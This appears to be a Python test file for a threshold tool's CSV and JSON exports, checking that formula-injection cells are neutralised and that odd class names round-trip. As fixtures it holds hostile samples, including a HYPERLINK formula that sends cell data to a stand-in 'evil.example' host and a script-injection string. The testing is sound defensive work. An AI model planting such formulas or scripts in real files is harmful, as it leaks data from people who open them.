"""Exports are safe to open: no decisions cell runs as a spreadsheet formula, numbers stay
numbers, and the JSON config carries any class name intact and encodable."""

import csv
import io
import json

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st

import thresholdlab as tl
from thresholdlab.cli import main
from thresholdlab.config import ThresholdConfig
from thresholdlab.decisions import decide, decisions_frame
from thresholdlab.spreadsheet_safety import FORMULA_STARTS, neutralise_cell, neutralise_frame, safe_csv

HOSTILE = ["+cmd", "@sum(1)", '=HYPERLINK("http://evil.example/?"&A1,"open")', "-2+3"]
HOSTILE_IDS = ["=1+1", "-5", "@x", "+7", "\tz", "\rq", "-A1", "plain"]


def _quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def hostile_csv(n: int = 300, seed: int = 0, multilabel: bool = False) -> bytes:
    """A file whose class names and ids all start with formula characters; logits, so that
    negative numbers are everywhere."""
    rng = np.random.default_rng(seed)
    k = len(HOSTILE)
    if multilabel:
        header = ["id", *(_quote(f"y_{c}") for c in HOSTILE), *(_quote(f"logit_{c}") for c in HOSTILE)]
    else:
        header = ["id", "label", *(_quote(f"logit_{c}") for c in HOSTILE)]
    lines = [",".join(header)]
    for i in range(n):
        scores = rng.normal(size=k)
        ident = _quote(f"{HOSTILE_IDS[i % len(HOSTILE_IDS)]}{i}")
        if multilabel:
            truth = [str(int(v)) for v in rng.random(k) < 0.4]
        else:
            truth = [_quote(HOSTILE[int(np.argmax(scores + rng.normal(size=k)))])]
        lines.append(",".join([ident, *truth, *(f"{v:.4f}" for v in scores)]))
    return ("\n".join(lines) + "\n").encode()


def live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character that is not a number."""
    out = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    out.append(cell)
    return out


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+cmd", "'+cmd"),
        ("@sum(1)", "'@sum(1)"),
        ("-2+3", "'-2+3"),
        ("-A1", "'-A1"),
        ("\tz", "'\tz"),
        ("\rq", "'\rq"),
        ("-0.25", "-0.25"),  # a negative number is not a formula
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        (".5", ".5"),
        ("cat", "cat"),
        ("", ""),
        ("a=b", "a=b"),  # only the first character counts
    ],
)
def test_neutralise_cell(cell, written):
    assert neutralise_cell(cell) == written


def test_numeric_columns_are_never_touched():
    frame = pd.DataFrame({"logit": [-1.5, 2.0], "id": [-3, 4], "flag": [True, False],
                          "name": ["=x", "-7"]})
    out = neutralise_frame(frame)
    assert out["logit"].tolist() == [-1.5, 2.0] and out["id"].tolist() == [-3, 4]
    assert out["name"].tolist() == ["'=x", "-7"]
    text = safe_csv(frame)
    assert text.splitlines()[1].startswith("-1.5,-3,True,'=x")
    assert frame["name"].tolist() == ["=x", "-7"]  # the caller's frame is left as it was


def test_column_names_are_neutralised_too():
    assert safe_csv(pd.DataFrame({"=bad": [1]})).splitlines()[0] == "'=bad"


@pytest.mark.parametrize("multilabel", [False, True], ids=["multiclass", "multilabel"])
def test_cli_apply_writes_no_live_formula(tmp_path, multilabel):
    data = tmp_path / "hostile.csv"
    data.write_bytes(hostile_csv(multilabel=multilabel))
    pset = tl.load(data)
    assert set(pset.classes) == set(HOSTILE)
    config = tmp_path / "t.json"
    assert main(["optimize", str(data), "--objective", "f1", "-o", str(config)]) == 0
    out = tmp_path / "decisions.csv"
    assert main(["apply", str(data), "--thresholds", str(config), "-o", str(out)]) == 0
    text = out.read_text()
    # Written plainly, half the ids and (multi-class) most predictions would be live formulas.
    cfg = ThresholdConfig.load(config)
    raw = decisions_frame(pset, decide(pset.probabilities, cfg.thresholds_for(pset.classes), cfg.rule))
    assert len(live_formulas(raw.to_csv(index=False))) > (250 if not multilabel else 140)
    assert live_formulas(text) == []
    written = pd.read_csv(out, dtype=str, keep_default_na=False)
    first = written.columns[0]
    # Every id is the file's id, behind an apostrophe exactly when it would have been a formula.
    assert written[first].tolist() == [neutralise_cell(str(i)) for i in pset.ids]
    if not multilabel:
        expected = {"", *(neutralise_cell(c) for c in HOSTILE)}
        assert set(written["prediction"]) <= expected
        assert set(written["prediction"]) - {""}


def test_dashboard_decisions_download_writes_no_live_formula():
    from types import SimpleNamespace

    from thresholdlab.decisions import DecisionRule
    from thresholdlab.ui import export

    pset = tl.load(hostile_csv(n=60), name="hostile.csv")
    # The download reads only the data and the rule from the dashboard's data set.
    ds = SimpleNamespace(predictions=pset, rule=DecisionRule.default(pset.task))
    text = export.decisions_csv(ds, np.zeros(pset.n_classes)).decode()
    assert live_formulas(text) == []
    assert {"'+cmd", "'@sum(1)", "'-2+3"} & set(pd.read_csv(io.StringIO(text), dtype=str)["prediction"])


def test_negative_scores_in_extra_columns_stay_numbers():
    frame = pd.DataFrame({"row": [0, 1], "logit_a": [-0.5, -12.25], "note": ["-0.5", "=1"]})
    rows = list(csv.reader(io.StringIO(safe_csv(frame))))
    assert rows[1] == ["0", "-0.5", "-0.5"] and rows[2] == ["1", "-12.25", "'=1"]


# ------------------------------------------------------------------------- the JSON config
ODD_NAMES = [
    "+cmd", "@sum(1)", '=HYPERLINK("x")', 'quote " and \\ backslash', "line\nbreak\ttab",
    "</script><script>alert(1)</script>", "lone \ud800 surrogate", "bidi \u202e reversed",
    "sep\u2028arator", "nul \x00 byte", "bom \ufeff", "emoji \U0001f600 ok", "zero\u200bwidth",
]


def _config(classes):
    return ThresholdConfig(task="multilabel", classes=tuple(classes),
                           thresholds={c: 0.25 for c in classes})


def test_config_json_escapes_every_odd_class_name():
    config = _config(ODD_NAMES)
    text = config.to_json()
    encoded = text.encode("utf-8")  # would fail on a raw lone surrogate
    assert "\u202e" not in text and "\u2028" not in text and "\ud800" not in text
    assert "\\ud800" in text and "\\u202e" in text
    assert "\U0001f600" in text  # readable text stays readable
    back = ThresholdConfig.from_json(encoded, source="odd.json")
    assert back.classes == config.classes
    assert back.to_json().split("created_at")[1] == text.split("created_at")[1]
    assert json.loads(text)["classes"] == ODD_NAMES


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=4, unique=True))
def test_config_json_round_trips_any_class_names(classes):
    config = _config(classes)
    text = config.to_json()
    back = ThresholdConfig.from_json(text.encode("utf-8"), source="any.json")
    assert back.classes == tuple(classes)
    assert back.thresholds == config.thresholds


def test_config_save_writes_odd_names(tmp_path):
    path = tmp_path / "odd.json"
    _config(ODD_NAMES).save(path)
    assert ThresholdConfig.load(path).classes == tuple(ODD_NAMES)


def test_a_carriage_return_in_a_cell_does_not_break_the_row():
    frame = pd.DataFrame({"row": [0, 1], "prediction": ["\rq", "a\rb"]})
    rows = list(csv.reader(io.StringIO(safe_csv(frame), newline="")))
    assert rows == [["row", "prediction"], ["0", "'\rq"], ["1", "a\rb"]]
    assert pd.read_csv(io.StringIO(safe_csv(frame)))["prediction"].tolist() == ["'\rq", "a\rb"]
    # Without one, the text is what pandas writes.
    plain = pd.DataFrame({"row": [0], "prediction": ["cat"]})
    assert safe_csv(plain) == plain.to_csv(index=False)
